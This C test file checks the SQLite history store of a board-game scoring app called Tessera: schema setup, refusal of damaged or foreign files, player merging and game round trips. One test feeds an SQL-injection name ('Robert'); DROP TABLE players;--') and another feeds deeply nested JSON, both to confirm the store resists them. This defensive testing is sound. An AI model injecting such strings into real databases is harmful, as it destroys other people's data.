/* test-store.c
 *
 * Copyright 2026 The Tessera developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <gio/gio.h>
#include <glib/gstdio.h>
#include <signal.h>
#include <stdio.h>
#include <sqlite3.h>
#include <string.h>

#include "tessera-random-game.h"
#include "tessera-test-utils.h"
#include "tessera-store.h"

/* Opening the history: a new one gets the schema, and anything that is not a history this
 * version can open is refused with a message that says where it is and what to do, and is
 * left byte for byte as it was. */

typedef struct
{
  char *folder;
  char *path;   /* folder/history.db, not made yet */
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  fixture->folder = g_dir_make_tmp ("tessera-store-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->path = g_build_filename (fixture->folder, "history.db", NULL);
}

static void
remove_tree (const char *path)
{
  if (g_file_test (path, G_FILE_TEST_IS_DIR) && !g_file_test (path, G_FILE_TEST_IS_SYMLINK))
    {
      g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
      const char *name;

      while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
        {
          g_autofree char *child = g_build_filename (path, name, NULL);
          remove_tree (child);
        }
      g_rmdir (path);
    }
  else
    g_unlink (path);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  remove_tree (fixture->folder);
  g_free (fixture->folder);
  g_free (fixture->path);
}

/* Runs @sql on the file at @path with SQLite itself, as another program would. */
static void
run_sql (const char *path,
         const char *sql)
{
  sqlite3 *db = NULL;

  g_assert_cmpint (sqlite3_open (path, &db), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, sql, NULL, NULL, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_close (db), ==, SQLITE_OK);
}

static gint64
query_int (const char *path,
           const char *sql)
{
  sqlite3 *db = NULL;
  sqlite3_stmt *statement = NULL;
  gint64 value;

  g_assert_cmpint (sqlite3_open_v2 (path, &db, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &statement, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (statement), ==, SQLITE_ROW);
  value = sqlite3_column_int64 (statement, 0);
  sqlite3_finalize (statement);
  sqlite3_close (db);
  return value;
}

static GBytes *
read_file (const char *path)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;
  gsize length = 0;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  return g_bytes_new_take (contents, length);
}

static void
make_history (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);

  g_assert_no_error (error);
  g_assert_nonnull (store);
}

/* Opens @path expecting @code, and checks that the message names the file and the file is
 * unchanged. */
static void
check_refused (const char *path,
               int         code,
               const char *says)
{
  g_autoptr(GBytes) before = g_file_test (path, G_FILE_TEST_IS_REGULAR) ? read_file (path) : NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);

  g_assert_null (store);
  g_assert_error (error, TESSERA_STORE_ERROR, code);
  g_assert_nonnull (strstr (error->message, path));
  g_assert_nonnull (strstr (error->message, says));
  if (before != NULL)
    {
      g_autoptr(GBytes) after = read_file (path);

      g_assert_true (g_bytes_equal (before, after));
    }
}

static void
test_new_history (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autofree char *nested = g_build_filename (fixture->folder, "a", "b", "history.db", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (nested, &error);

  g_assert_no_error (error);
  g_assert_cmpstr (tessera_store_get_path (store), ==, nested);
  g_assert_cmpuint (tessera_store_get_schema_version (store), ==, TESSERA_STORE_SCHEMA_VERSION);
  g_clear_object (&store);

  g_assert_cmpint (query_int (nested, "PRAGMA user_version"), ==, TESSERA_STORE_SCHEMA_VERSION);
  g_assert_cmpint (query_int (nested, "PRAGMA application_id"), ==, 0x54657373);
  g_assert_cmpint (query_int (nested, "SELECT count(*) FROM sqlite_schema WHERE type = 'table' AND name IN "
                                      "('players', 'games', 'game_players', 'events', 'score_events', 'reviews', "
                                      "'review_players')"), ==, 7);
  /* Write-ahead logging is a property of the file: it stays on. */
  g_assert_cmpint (query_int (nested, "SELECT journal_mode = 'wal' FROM pragma_journal_mode"), ==, 1);
}

/* What a history holds is there again when it is opened again, and opening it again does
 * not migrate or change anything. */
static void
test_reopen (Fixture       *fixture,
             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;

  make_history (fixture->path);
  run_sql (fixture->path, "INSERT INTO players (name, name_key, created) VALUES ('Anna', 'anna', '2026-11-22T10:00:00Z')");
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (tessera_store_get_schema_version (store), ==, TESSERA_STORE_SCHEMA_VERSION);
  g_clear_object (&store);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE name = 'Anna'"), ==, 1);
}

/* The schema holds its own rules: a second "anna" is one player too many, a game has one of
 * three states, and foreign keys are checked. */
static void
test_schema_constraints (Fixture       *fixture,
                         gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  sqlite3 *db = NULL;

  g_assert_no_error (error);
  g_assert_cmpint (sqlite3_open (fixture->path, &db), ==, SQLITE_OK);
  sqlite3_exec (db, "PRAGMA foreign_keys = ON", NULL, NULL, NULL);
  g_assert_cmpint (sqlite3_exec (db, "INSERT INTO players (name, name_key, created) VALUES ('Anna', 'anna', 'x')", NULL, NULL, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, "INSERT INTO players (name, name_key, created) VALUES ('ANNA', 'anna', 'x')", NULL, NULL, NULL), ==, SQLITE_CONSTRAINT);
  g_assert_cmpint (sqlite3_exec (db, "INSERT INTO games (started, sets, state) VALUES ('x', '[\"base\"]', 'lost')", NULL, NULL, NULL), ==, SQLITE_CONSTRAINT);
  g_assert_cmpint (sqlite3_exec (db, "INSERT INTO events (game, sequence, event) VALUES (42, 0, '{\"end\": {}}')", NULL, NULL, NULL), ==, SQLITE_CONSTRAINT);
  sqlite3_close (db);
}

/* A first start that stopped before the schema was written leaves an empty file. */
static void
test_empty_file (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;

  g_file_set_contents (fixture->path, "", 0, &error);
  g_assert_no_error (error);
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (tessera_store_get_schema_version (store), ==, TESSERA_STORE_SCHEMA_VERSION);
}

static void
test_refuses_text (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  g_file_set_contents (fixture->path, "Anna 57, Bram 49\n", -1, &error);
  g_assert_no_error (error);
  check_refused (fixture->path, TESSERA_STORE_ERROR_NOT_HISTORY, "not an SQLite database");
}

static void
test_refuses_foreign_database (Fixture       *fixture,
                               gconstpointer  data)
{
  run_sql (fixture->path, "CREATE TABLE photos (id INTEGER PRIMARY KEY, file TEXT); INSERT INTO photos (file) VALUES ('beach.jpg')");
  check_refused (fixture->path, TESSERA_STORE_ERROR_NOT_HISTORY, "another program's database");
}

/* A history whose schema pages are overwritten: SQLite reports it damaged, and it is kept for
 * whoever can still rescue it. */
static void
test_refuses_damaged (Fixture       *fixture,
                      gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  char *contents;
  gsize length;

  make_history (fixture->path);
  bytes = read_file (fixture->path);
  contents = g_bytes_unref_to_data (g_steal_pointer (&bytes), &length);
  g_assert_cmpuint (length, >, 4096);
  /* Past the 100-byte file header: the first page's b-tree, where the schema starts. */
  memset (contents + 100, 0xa5, 300);
  g_file_set_contents (fixture->path, contents, (gssize) length, &error);
  g_assert_no_error (error);
  g_free (contents);
  check_refused (fixture->path, TESSERA_STORE_ERROR_NOT_HISTORY, "damaged");
}

/* Flips the first @n_bytes bytes of page @page (counted from 1) of the file at @path: its
 * header and the pointers to its cells no longer make sense. */
static void
damage_page (const char *path,
             gint64      page,
             gsize       n_bytes)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = read_file (path);
  gsize length;
  char *contents = g_bytes_unref_to_data (g_steal_pointer (&bytes), &length);
  gsize page_size = (gsize) query_int (path, "PRAGMA page_size");
  gsize start = (gsize) (page - 1) * page_size;

  g_assert_cmpuint (start + n_bytes, <=, length);
  for (gsize i = 0; i < n_bytes; i++)
    contents[start + i] ^= 0xff;
  g_file_set_contents (path, contents, (gssize) length, &error);
  g_assert_no_error (error);
  g_free (contents);
}

/* A history with games enough for every table to take several pages, closed. */
static void
make_history_with_games (const char *path,
                         guint       n_games)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);

  g_assert_no_error (error);
  for (guint i = 0; i < n_games; i++)
    {
      g_autoptr(TesseraRecord) record = tessera_random_game (300 + i, 2 + i % 3);
      gboolean already;

      g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
      g_assert_no_error (error);
    }
}

static void
assert_damaged (const GError *error,
                const char   *path)
{
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_DAMAGED);
  g_assert_true (g_str_has_prefix (error->message, "the history "));
  g_assert_nonnull (strstr (error->message, path));
  g_assert_nonnull (strstr (error->message, " is damaged ("));
  g_assert_nonnull (strstr (error->message, "keep a copy of the file as it is"));
}

/* 200 bytes flipped in a page of the scorings, which listing the games does not read: the
 * history opens and lists its games, but SQLite's check before the first write finds the
 * damage, and nothing is written into the file then or later, whatever the write: an import
 * (it used to go in, six of them), a deletion, a game begun. */
static void
test_damaged_not_written (Fixture       *fixture,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (77, 3);
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  g_autofree char *wal = g_strconcat (fixture->path, "-wal", NULL);
  gboolean already;

  make_history_with_games (fixture->path, 30);
  damage_page (fixture->path, query_int (fixture->path, "SELECT rootpage FROM sqlite_schema WHERE name = 'score_events'"), 200);
  before = read_file (fixture->path);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 30);

  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
  assert_damaged (error, fixture->path);
  g_assert_nonnull (strstr (error->message, "SQLite's check found: "));
  g_clear_error (&error);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
  assert_damaged (error, fixture->path);
  g_clear_error (&error);
  /* One statement on its own, outside a transaction, is refused too. */
  g_assert_false (tessera_store_delete_game (store, 1, &error));
  assert_damaged (error, fixture->path);
  g_clear_error (&error);
  g_assert_cmpint (tessera_store_add_game (store, record, &error), ==, 0);
  assert_damaged (error, fixture->path);
  g_clear_error (&error);
  g_clear_object (&store);

  after = read_file (fixture->path);
  g_assert_true (g_bytes_equal (before, after));
  /* Nor into its log. */
  {
    GStatBuf info;

    g_assert_true (g_stat (wal, &info) != 0 || info.st_size == 0);
  }
}

/* Damage a read meets first: SQLite's answer ("database disk image is malformed") is kept, and
 * every write after it is refused, without a check of its own. */
static void
test_damaged_seen_reading (Fixture       *fixture,
                           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (78, 2);
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  gboolean already;

  make_history_with_games (fixture->path, 30);
  damage_page (fixture->path, query_int (fixture->path, "SELECT rootpage FROM sqlite_schema WHERE name = 'events'"), 200);
  before = read_file (fixture->path);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  games = tessera_store_list_games (store, &error);
  g_assert_null (games);
  assert_damaged (error, fixture->path);
  g_assert_nonnull (strstr (error->message, "cannot read the games: database disk image is malformed"));
  g_clear_error (&error);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
  assert_damaged (error, fixture->path);
  g_assert_nonnull (strstr (error->message, "cannot read the games: database disk image is malformed"));
  g_clear_error (&error);
  g_clear_object (&store);

  after = read_file (fixture->path);
  g_assert_true (g_bytes_equal (before, after));
}

/* An event that cannot be read back says which game it belongs to, as tessera-cli's history
 * lists it, and in which file. */
static void
test_stored_event_named (Fixture       *fixture,
                         gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (79, 2);
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autofree char *expected = NULL;
  gint64 game_id;
  gboolean already;

  record->played = g_new0 (TesseraPlayed, 1);
  record->played->start = g_strdup ("2026-11-22T14:05:00+01:00");
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_clear_object (&store);
  run_sql (fixture->path, "UPDATE events SET event = '{\"type\": \"turn\", ' WHERE sequence = 5");

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  loaded = tessera_store_load_record (store, game_id, &error);
  g_assert_null (loaded);
  g_assert_nonnull (error);
  expected = g_strdup_printf ("the history %s, game %" G_GINT64_FORMAT " of 2026-11-22 14:05 (%s, %s): event 5",
                              fixture->path, game_id, tessera_record_player_name (record, 0),
                              tessera_record_player_name (record, 1));
  g_assert_true (g_str_has_prefix (error->message, expected));
}

/* A history whose stored JSON nests 200,000 levels deep (a hostile or damaged file): the
 * parser would recurse off the stack; the game is refused as damaged, the others still read. */
static void
test_refuses_deep_json (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) good = tessera_random_game (7, 2);
  g_autoptr(TesseraRecord) bad = tessera_random_game (8, 2);
  g_autoptr(TesseraRecord) read_back = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autofree char *deep = tessera_test_nested_arrays (200000);
  g_autofree char *deeper_than_allowed = tessera_test_nested_arrays (TESSERA_RECORD_MAX_DEPTH + 5);
  g_autoptr(GString) sql = g_string_new (NULL);
  gint64 good_id, bad_id;
  gboolean already;

  g_assert_no_error (error);
  good_id = tessera_store_import_record (store, good, &already, &error);
  bad_id = tessera_store_import_record (store, bad, &already, &error);
  g_assert_no_error (error);
  g_clear_object (&store);

  g_string_printf (sql, "UPDATE games SET sets = '%s' WHERE id = %" G_GINT64_FORMAT, deep, bad_id);
  run_sql (fixture->path, sql->str);
  g_string_printf (sql, "UPDATE games SET played = '{\"start\": %s}' WHERE id = %" G_GINT64_FORMAT,
                   deeper_than_allowed, bad_id);
  run_sql (fixture->path, sql->str);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  read_back = tessera_store_load_record (store, bad_id, &error);
  g_assert_null (read_back);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_HISTORY);
  g_assert_nonnull (strstr (error->message, "it is damaged"));
  g_clear_error (&error);
  /* The other game still reads. */
  g_clear_pointer (&read_back, tessera_record_free);
  read_back = tessera_store_load_record (store, good_id, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (read_back->events->len, ==, good->events->len);
  /* The list of games says so too, rather than crash. */
  games = tessera_store_list_games (store, &error);
  g_assert_null (games);
  g_assert_nonnull (error);
  g_clear_error (&error);
}

static void
test_refuses_newer (Fixture       *fixture,
                    gconstpointer  data)
{
  make_history (fixture->path);
  run_sql (fixture->path, "PRAGMA user_version = 99");
  check_refused (fixture->path, TESSERA_STORE_ERROR_TOO_NEW, "newer version of Tessera");
  g_assert_cmpint (query_int (fixture->path, "PRAGMA user_version"), ==, 99);
}

static void
test_refuses_folder (Fixture       *fixture,
                     gconstpointer  data)
{
  g_assert_cmpint (g_mkdir (fixture->path, 0700), ==, 0);
  check_refused (fixture->path, TESSERA_STORE_ERROR_NOT_HISTORY, "not a file");
  g_assert_true (g_file_test (fixture->path, G_FILE_TEST_IS_DIR));
}

static void
test_default_path (void)
{
  g_autofree char *from_environment = NULL;
  g_autofree char *expected = g_build_filename (g_get_user_data_dir (), "tessera", "history.db", NULL);
  g_autofree char *by_default = NULL;

  g_setenv ("TESSERA_HISTORY_DB", "/tmp/elsewhere.db", TRUE);
  from_environment = tessera_store_get_default_path ();
  g_assert_cmpstr (from_environment, ==, "/tmp/elsewhere.db");
  g_unsetenv ("TESSERA_HISTORY_DB");
  by_default = tessera_store_get_default_path ();
  g_assert_cmpstr (by_default, ==, expected);
}

/* Stores @record's game the way the app does, one event at a time as each is applied, and
 * returns its id. */
static gint64
store_game_as_played (TesseraStore        *store,
                      const TesseraRecord *record)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraGame) game = tessera_game_new (record, &error);
  gint64 game_id;

  g_assert_no_error (error);
  game_id = tessera_store_add_game (store, record, &error);
  g_assert_no_error (error);
  g_assert_cmpint (game_id, >, 0);
  for (guint i = 0; i < record->events->len; i++)
    {
      g_assert_true (tessera_game_apply (game, g_ptr_array_index (record->events, i), &error));
      g_assert_no_error (error);
      g_assert_true (tessera_store_save_event (store, game_id, game, &error));
      g_assert_no_error (error);
    }
  return game_id;
}

/* Every kind of game goes in event by event and comes out as the same record; a finished
 * game's final scores, ranks and scorings agree with the engine's. */
static void
test_game_round_trip (Fixture       *fixture,
                      gconstpointer  data)
{
  static const char * const base[] = { "base", NULL };
  static const char * const wheel[] = { "wheel-of-fortune", NULL };
  static const char * const both[] = { "base", "wheel-of-fortune", "tower", NULL };
  static const char * const everything[] = { "wheel-of-fortune", "tower", "mage-witch", "crop-circles", NULL };
  static const char * const * const combinations[] = { base, wheel, both, everything };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);

  g_assert_no_error (error);
  for (guint c = 0; c < G_N_ELEMENTS (combinations); c++)
    {
      g_autoptr(TesseraRecord) record = tessera_random_game_with_sets (100 + c, 2 + c, combinations[c]);
      g_autoptr(TesseraGame) game = tessera_game_new_from_record (record, G_MAXUINT, &error);
      g_autoptr(TesseraRecord) loaded = NULL;
      g_autofree char *expected = tessera_record_to_data (record);
      g_autofree char *found = NULL;
      g_autofree char *query = NULL;
      gint64 game_id;

      g_assert_no_error (error);
      g_assert_true (tessera_game_is_finished (game));
      game_id = store_game_as_played (store, record);
      loaded = tessera_store_load_record (store, game_id, &error);
      g_assert_no_error (error);
      found = tessera_record_to_data (loaded);
      g_assert_cmpstr (found, ==, expected);

      query = g_strdup_printf ("SELECT state = 'finished' AND ended IS NOT NULL FROM games WHERE id = %" G_GINT64_FORMAT, game_id);
      g_assert_cmpint (query_int (fixture->path, query), ==, 1);
      for (guint seat = 0; seat < tessera_game_get_n_players (game); seat++)
        {
          int score = tessera_game_get_score (game, seat);
          guint rank = 1;
          g_autofree char *final = g_strdup_printf ("SELECT final_score FROM game_players WHERE game = %" G_GINT64_FORMAT " AND seat = %u", game_id, seat);
          g_autofree char *ranked = g_strdup_printf ("SELECT rank FROM game_players WHERE game = %" G_GINT64_FORMAT " AND seat = %u", game_id, seat);
          g_autofree char *summed = g_strdup_printf ("SELECT total (points) FROM score_events WHERE game = %" G_GINT64_FORMAT " AND seat = %u", game_id, seat);

          for (guint other = 0; other < tessera_game_get_n_players (game); other++)
            rank += tessera_game_get_score (game, other) > score;
          g_assert_cmpint (query_int (fixture->path, final), ==, score);
          g_assert_cmpint (query_int (fixture->path, ranked), ==, rank);
          g_assert_cmpint (query_int (fixture->path, summed), ==, score);
        }
      g_free (query);
      query = g_strdup_printf ("SELECT count(*) FROM score_events WHERE game = %" G_GINT64_FORMAT, game_id);
      g_assert_cmpint (query_int (fixture->path, query), ==, tessera_game_get_n_score_events (game));
      /* The stored reasons carry the counts behind the points. */
      g_free (query);
      query = g_strdup_printf ("SELECT count(*) FROM score_events WHERE game = %" G_GINT64_FORMAT " AND ("
                                                                                                  " json_extract (reason, '$.reason') IS NULL OR"
                                                                                                  " (json_extract (reason, '$.reason') = 'completed-city' AND json_extract (reason, '$.magic') IS NULL AND"
                                                                                                  "  points != 2 * (ifnull (json_extract (reason, '$.tiles'), -1) + ifnull (json_extract (reason, '$.pennants'), 0))) OR"
                                                                                                  " (json_extract (reason, '$.reason') = 'unfinished-road' AND json_extract (reason, '$.magic') IS NULL AND"
                                                                                                  "  points != ifnull (json_extract (reason, '$.tiles'), -1)) OR"
                                                                                                  " (json_extract (reason, '$.reason') = 'farm' AND points != 3 * ifnull (json_extract (reason, '$.cities'), -1)))",
                               game_id);
      g_assert_cmpint (query_int (fixture->path, query), ==, 0);
    }
}

/* A record with @names, in the base game. */
static TesseraRecord *
record_with_players (const char * const *names)
{
  static const char *colors[] = { "red", "blue", "green", "yellow", "black" };
  TesseraRecord *record = tessera_record_new ();

  g_ptr_array_add (record->sets, g_strdup ("base"));
  for (guint i = 0; names[i] != NULL; i++)
    tessera_record_add_player (record, names[i], colors[i]);
  return record;
}

/* The same name in another case is the same player, listed by the name first written; each
 * game's record keeps the names as its table wrote them. */
static void
test_same_player_any_case (Fixture       *fixture,
                           gconstpointer  data)
{
  static const char * const first[] = { "Anna", "Bram", NULL };
  static const char * const second[] = { "ANNA", "\xc3\x89mile", NULL };   /* É composed */
  static const char * const third[] = { "E\xcc\x81MILE", "bram", NULL };   /* É decomposed */
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) a = record_with_players (first);
  g_autoptr(TesseraRecord) b = record_with_players (second);
  g_autoptr(TesseraRecord) c = record_with_players (third);
  g_autoptr(TesseraRecord) loaded = NULL;
  gint64 game_b;

  g_assert_no_error (error);
  g_assert_cmpint (tessera_store_add_game (store, a, &error), >, 0);
  game_b = tessera_store_add_game (store, b, &error);
  g_assert_cmpint (game_b, >, 0);
  g_assert_cmpint (tessera_store_add_game (store, c, &error), >, 0);
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players"), ==, 3);
  loaded = tessera_store_load_record (store, game_b, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (tessera_record_player_name (loaded, 0), ==, "ANNA");
  g_assert_cmpstr (tessera_record_player_name (loaded, 1), ==, "\xc3\x89mile");
  {
    g_autoptr(GPtrArray) games = tessera_store_list_games (store, &error);
    const TesseraGameSummary *summary;

    g_assert_no_error (error);
    g_assert_cmpuint (games->len, ==, 3);
    summary = g_ptr_array_index (games, 1);
    g_assert_cmpint (summary->id, ==, game_b);
    g_assert_cmpstr (g_array_index (summary->seats, TesseraGameSeat, 0).name, ==, "Anna");
  }
}

/* A typo at the table made two people of one: "Ana" is merged into "Anna", unless they sat at
 * one table; a player renamed keeps their games; the records keep the names as played. A
 * game deleted takes its events and results with it, and nothing of the others. */
static void
test_players_and_games_managed (Fixture       *fixture,
                                gconstpointer  data)
{
  static const char * const first[] = { "Anna", "Bram", NULL };
  static const char * const second[] = { "Ana", "Carmen", NULL };
  static const char * const third[] = { "Ana", "Anna", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) a = record_with_players (first);
  g_autoptr(TesseraRecord) b = record_with_players (second);
  g_autoptr(TesseraRecord) c = record_with_players (third);
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(TesseraRecord) played = tessera_random_game (5, 2);
  gboolean already;
  gint64 game_a, game_b, game_c, game_played;

  g_assert_no_error (error);
  game_a = tessera_store_add_game (store, a, &error);
  game_b = tessera_store_add_game (store, b, &error);
  game_c = tessera_store_add_game (store, c, &error);
  g_assert_no_error (error);

  /* Ana and Anna sat at one table in game 3: two people. */
  g_assert_false (tessera_store_merge_players (store, "ana", "Anna", &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
  g_assert_cmpstr (error->message, ==, "ana and Anna played together in game 3: they are two people");
  g_clear_error (&error);
  g_assert_true (tessera_store_delete_game (store, game_c, &error));
  g_assert_no_error (error);
  g_assert_false (tessera_store_delete_game (store, game_c, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_clear_error (&error);

  /* Now they are one. */
  g_assert_true (tessera_store_merge_players (store, "ana", "Anna", &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players"), ==, 3);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players JOIN players ON players.id = player "
                                             "WHERE players.name = 'Anna'"), ==, 2);
  loaded = tessera_store_load_record (store, game_b, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (tessera_record_player_name (loaded, 0), ==, "Ana");
  g_assert_false (tessera_store_merge_players (store, "Anna", "ANNA", &error));
  g_assert_cmpstr (error->message, ==, "Anna and ANNA are one player already");
  g_clear_error (&error);
  g_assert_false (tessera_store_merge_players (store, "Daan", "Anna", &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_assert_cmpstr (error->message, ==, "the history has no player Daan");
  g_clear_error (&error);

  /* Renamed: the lists say the new name, the records the old one. */
  g_assert_false (tessera_store_rename_player (store, "bram", "carmen", &error));
  g_assert_cmpstr (error->message, ==, "carmen is another player of the history already; if they are one person, merge the two");
  g_clear_error (&error);
  g_assert_false (tessera_store_rename_player (store, "bram", "  ", &error));
  g_assert_cmpstr (error->message, ==, "a player needs a name");
  g_clear_error (&error);
  /* No longer than a record may name a player, so that the games export and import again. */
  g_assert_false (tessera_store_rename_player (store, "bram",
                                               "Bram Bartholomeus Cornelis Diederik Evert van den Berg-Oudendijk", &error));
  g_assert_cmpstr (error->message, ==, "the name has 64 characters; a player's name has at most 60");
  g_clear_error (&error);
  g_assert_true (tessera_store_rename_player (store, "bram", " Bram de Vries ", &error));
  g_assert_no_error (error);
  g_assert_true (tessera_store_rename_player (store, "BRAM DE VRIES", "Bram de vries", &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE name = 'Bram de vries'"), ==, 1);
  g_clear_pointer (&loaded, tessera_record_free);
  loaded = tessera_store_load_record (store, game_a, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (tessera_record_player_name (loaded, 1), ==, "Bram");

  /* A finished game deleted: its events, scorings and results go, the other games stay. */
  game_played = tessera_store_import_record (store, played, &already, &error);
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM score_events"), >, 0);
  g_assert_true (tessera_store_delete_game (store, game_played, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 2);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, 0);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM score_events"), ==, 0);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players"), ==, 4);
}

/* Quotes, semicolons, newlines, emoji and very long names are data, never SQL. */
static void
test_hostile_names (Fixture       *fixture,
                    gconstpointer  data)
{
  g_autofree char *long_name = g_strnfill (10000, 'x');
  const char *names[] = {
    "Robert'); DROP TABLE players;--", "\"quoted\" \\ back", "two\nlines\r\ttab",
    "\xf0\x9f\x8f\xb0 castle \xf0\x9f\x90\x96", long_name, NULL,
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = record_with_players (names);
  g_autoptr(TesseraRecord) loaded = NULL;
  gint64 game_id;

  g_assert_no_error (error);
  game_id = tessera_store_add_game (store, record, &error);
  g_assert_no_error (error);
  loaded = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  for (guint i = 0; names[i] != NULL; i++)
    g_assert_cmpstr (tessera_record_player_name (loaded, (int) i), ==, names[i]);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players"), ==, 5);
}

/* @csv read as RFC 4180 says, as a spreadsheet's import reads it: rows of cells (char *). */
static GPtrArray *
parse_csv (const char *csv)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *cell = g_string_new (NULL);
  const char *c = csv;

  while (*c != '\0')
    {
      if (*c == '"')
        {
          for (c++; *c != '\0' && !(c[0] == '"' && c[1] != '"'); c++)
            {
              if (*c == '"')
                c++;
              g_string_append_c (cell, *c);
            }
          g_assert_cmpint (*c, ==, '"');
          c++;
        }
      else
        {
          while (*c != '\0' && *c != ',' && *c != '\r')
            g_string_append_c (cell, *c++);
        }
      g_ptr_array_add (row, g_strdup (cell->str));
      g_string_truncate (cell, 0);
      if (*c == ',')
        c++;
      else
        {
          g_assert_true (c[0] == '\r' && c[1] == '\n');
          c += 2;
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
    }
  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_unref (row);
  g_string_free (cell, TRUE);
  return rows;
}

